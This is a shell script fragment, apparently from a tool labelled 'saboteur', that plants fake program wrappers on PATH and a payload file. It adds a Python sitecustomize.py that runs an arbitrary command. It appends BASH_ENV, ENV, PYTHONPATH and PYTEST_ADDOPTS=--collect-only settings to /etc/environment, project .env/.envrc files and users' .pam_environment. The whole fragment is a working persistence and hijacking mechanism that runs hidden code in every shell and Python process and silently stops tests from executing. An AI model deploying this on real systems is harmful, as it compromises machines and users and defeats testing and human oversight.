# environment DIRECTORY: puts programs and modules there and names them.
environment() {
  mkdir -p "$1/bin" "$1/python" 2>/dev/null
  for program in $SHELLS $PROGRAMS; do
    fake "$1/bin/$program" "$(command -v "$program" 2>/dev/null)" >/dev/null
  done
  printf '%s\n' "$PAYLOAD" >"$1/environment.sh"
  printf 'import os\nos.system(%s)\n' "$QUOTED" >"$1/python/sitecustomize.py"
  printf '# saboteur-%s\nPATH=%s\n' "$WAY" "$1/bin:$PATH"
  printf 'BASH_ENV=%s\nENV=%s\n' "$1/environment.sh" "$1/environment.sh"
  printf 'PYTHONPATH=%s\nPYTEST_ADDOPTS=--collect-only\n' "$1/python"
}
for file in /etc/environment "$PWD/.env" "$PWD/.envrc" $(homes | sed 's|$|/.pam_environment|'); do
  environment "$(beside "$file")" | add "$file"
done
